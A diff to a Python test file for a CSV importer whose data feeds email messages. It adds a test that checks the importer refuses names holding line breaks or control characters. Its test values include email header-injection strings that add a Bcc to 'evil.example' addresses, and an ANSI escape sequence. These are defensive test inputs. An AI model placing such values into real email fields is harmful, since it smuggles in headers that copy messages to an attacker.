@@ -64,11 +64,11 @@ def test_changed_row_is_updated_in_place(engine, tmp_path):
 
 
 def test_awkward_text_is_stored_exactly_and_reimports_unchanged(engine, tmp_path):
-    """Free text with tabs, newlines, backslashes, quotes, `\\N` and non-ASCII goes in as
-    written, and empty optional fields as nulls (PostgreSQL takes new rows by COPY, whose
-    text format escapes these)."""
+    """Text with tabs, backslashes, quotes, `\\N` and non-ASCII goes in as written, and empty
+    optional fields as nulls (PostgreSQL takes new rows by COPY, whose text format escapes
+    these). A line break is refused (the next test)."""
     d = _copy_grampian(tmp_path)
-    name = 'Police\tScotland: "North" O\'Neil \\N \\ back\\slash, Gàidhlig ✓\nsecond line'
+    name = 'Police\tScotland: "North" O\'Neil \\N \\ back\\slash, Gàidhlig ✓'
     _edit(d / "agencies.csv", "police,Police Scotland,ra,police,north-mappa@police.example",
           'police,"' + name.replace('"', '""') + '",ra,police,')
     assert import_directory(engine, d).ok
@@ -251,3 +251,25 @@ def test_a_local_holiday_without_a_name_imports(engine, tmp_path):
     with engine.connect() as conn:
         assert conn.execute(select(holiday.c.area, holiday.c.date, holiday.c.name)).all() == [
             ("Grampian", dt.date(2027, 3, 1), "")]
+
+
+@pytest.mark.parametrize("name", [
+    "Scottish Prison Service\r\nBcc: leak@evil.example", "SPS\rBcc: x@evil.example",
+    "SPS\nX-Injected: 1", "SPS\u2028line", "SPS\x1b[31m",  # (NUL has its own message)
+])
+def test_a_line_break_or_control_character_in_a_cell_is_refused_where_it_is(sqlite_engine, tmp_path, name):
+    # It would end an email subject early or add lines (seen: a chaser's body opening with
+    # "Bcc: ..."), or stop every message naming it at the SMTP library for good.
+    shutil.copytree(GRAMPIAN, tmp_path / "d")
+    path = tmp_path / "d" / "agencies.csv"
+    lines = path.read_text().splitlines()
+    header, first = lines[0], lines[1].split(",")
+    first[header.split(",").index("name")] = '"' + name + '"'
+    path.write_text("\n".join([header, ",".join(first), *lines[2:]]) + "\n", newline="")
+    report = import_directory(sqlite_engine, tmp_path / "d")
+    assert not report.ok
+    assert any(e.startswith("agencies.csv:2: name: contains a line break or control character")
+               for e in report.errors), report.errors
+    agency = SQLModel.metadata.tables["agency"]
+    with sqlite_engine.connect() as conn:
+        assert conn.execute(select(func.count()).select_from(agency)).scalar() == 0
